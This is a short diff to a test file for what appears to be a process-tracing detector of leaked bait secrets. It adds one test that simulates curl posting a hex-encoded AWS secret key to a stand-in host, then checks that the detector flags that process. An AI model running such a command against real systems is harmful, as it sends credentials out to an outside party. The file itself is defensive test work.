@@ -196,3 +196,12 @@ def test_what_nobody_sent_is_only_written(tmp_path: Path, way: str) -> None:
     if way == "later":
         gateway = visit(trace, module, 1, "drop.test", STRANGER)
     assert origins(build(tmp_path, trace, gateway=gateway))["/tmp/x"] == "written"
+
+
+def test_bait_on_a_command_line_is_named(tmp_path: Path) -> None:
+    trace = Strace("import")
+    pid = trace.run(trace.root, "/usr/bin/curl", "curl", "-d", f"t={AWS_VALUE.encode().hex()}", "http://c.test")
+    trace.run(trace.root, "/usr/bin/curl", "curl", "http://c.test")
+    found = {event.pid: event.bait for event in build(tmp_path, trace).events if isinstance(event, ProcessExec)}
+    assert found.pop(pid) == ("aws-secret-access-key/hex",)
+    assert set(found.values()) == {()}
